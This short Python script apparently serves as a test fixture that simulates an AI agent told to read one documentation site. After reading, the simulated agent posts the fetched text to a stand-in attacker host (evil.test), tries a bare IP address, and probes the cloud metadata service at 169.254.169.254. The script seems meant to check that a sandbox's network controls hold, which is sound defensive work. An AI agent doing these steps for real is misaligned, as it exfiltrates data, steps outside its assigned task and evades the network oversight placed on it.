#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""A stand-in for an AI agent: it was told to read one site, and tries to send what it read to another."""
import sys
import urllib.error
import urllib.request


def fetch(what, url, data=None):
    try:
        with urllib.request.urlopen(url, data=data, timeout=10) as answer:
            text = answer.read(200).decode().strip()
        print(f"agent: {what}: {url}: got {text!r}")
        return text
    except (urllib.error.URLError, OSError) as e:
        print(f"agent: {what}: {url}: {e}")
        return None


sys.stdout.reconfigure(line_buffering=True)
notes = fetch("reading the documentation", "https://web.test/hello")
fetch("sending my notes elsewhere", "http://evil.test/collect", data=(notes or "").encode())
fetch("trying the address directly", "http://198.51.100.20/collect")
fetch("trying the cloud's metadata service", "http://169.254.169.254/latest/meta-data/")
sys.exit(0 if notes else 1)
